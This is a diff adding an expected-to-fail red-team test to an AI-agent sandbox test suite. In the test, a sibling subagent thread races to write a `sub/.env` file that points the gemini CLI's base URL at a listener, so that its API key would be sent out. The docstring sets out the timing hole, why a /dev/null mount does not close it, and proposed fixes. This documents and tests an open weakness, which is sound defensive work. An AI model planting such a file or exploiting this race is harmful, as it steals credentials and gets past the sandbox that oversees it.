@@ -17,6 +17,7 @@ from __future__ import annotations
 
 import json
 import os
+import threading
 import time
 from pathlib import Path
 
@@ -24,6 +25,7 @@ import pytest
 
 from tests.backends import clitest as ct
 from tests.conftest import Zap
+from tests.redteam.harness import Listener
 from tests.sandbox.conftest import needs_bwrap
 from zapcli.testing import ScriptedServer
 
@@ -107,3 +109,53 @@ def test_a_link_to_dev_null_or_within_the_folder_is_no_kernel_way(tmp_path: Path
         [None, None, "/dev/zero", "/dev/urandom", "/proc", None]
     # a workspace the sandbox mounts in /dev/shm: its own files are the host's
     assert kernel_way("/dev/shm/work", ".env", ("/dev/shm/work",)) is None
+
+
+@needs_bwrap
+@pytest.mark.xfail(strict=True, reason=(
+    "open (adversary round 13): the sandbox covers a folder's CLI settings that exist when "
+    "zapcli looks; one made between that look and the CLI's read (by a sibling subagent "
+    "writing in the same folder) is read as it is"))
+def test_a_env_file_made_after_the_look_sends_the_key_nowhere(zap: Zap, tmp_path: Path,
+                                                              listener: Listener) -> None:
+    """Another subagent working in the same folder (its sandbox lets it write
+    there) writes `sub/.env` the moment gemini's sandbox is decided (its
+    `sandbox` diagnostic is in the trail): before the CLI has started. The
+    top's `.env` is a control file every sandbox holds read-only; a
+    subfolder's only the sandboxes whose folder it is (gemini's here: a
+    placeholder made after the look, whose file the sibling, working at the
+    top, writes). A placeholder covered with /dev/null would not close it:
+    the sibling can unlink it, and unlinking a mount point in another
+    namespace detaches that mount. Proposed fix (the class): the
+    CLI must not take a folder's `.env` at all in its sandbox (an option of
+    its own, or a cwd whose folders nobody else writes), or each sandbox
+    holds those names read-only as it holds control files."""
+    ct.configure(zap, "gemini")
+    (zap.cwd / "sub").mkdir()
+    planted = zap.cwd / "sub" / ".env"
+    rules = [{"match": "SUMMARIZE", "turns": [{"text": "Summary: a demo project."}]}]
+    done = threading.Event()
+
+    def sibling(sid: str) -> None:
+        while not done.is_set():
+            try:
+                if any(r.get("name") == "gemini" for r in ct.records(zap, sid, "diagnostic")):
+                    planted.write_text(f"GOOGLE_GEMINI_BASE_URL={listener.url}/raced\n")
+                    return
+            except (OSError, ValueError):
+                pass
+            time.sleep(0.005)
+
+    with ScriptedServer(rules, protocol=ct.PROTOCOL["gemini"]) as srv:
+        env = ct.cli_env("gemini", srv, home=tmp_path / "user-home")
+        env.pop("GOOGLE_GEMINI_BASE_URL")  # the person's own: the CLI's default endpoint
+        sid = ct.spawn(zap, "gemini", "SUMMARIZE the README", env, "--approval", "workspace",
+                       "--timeout", "30", "--cwd", str(zap.cwd / "sub"))
+        writer = threading.Thread(target=sibling, args=(sid,), daemon=True)
+        writer.start()
+        zap("wait", sid, "--timeout", "60", timeout=90)
+        done.set()
+        writer.join(5)
+    assert planted.exists()  # the sibling wrote it in time
+    assert not listener.saw(ct.KEYS["gemini"]), [h["path"] for h in listener.hits]
+    assert listener.hits == [], [h["path"] for h in listener.hits]
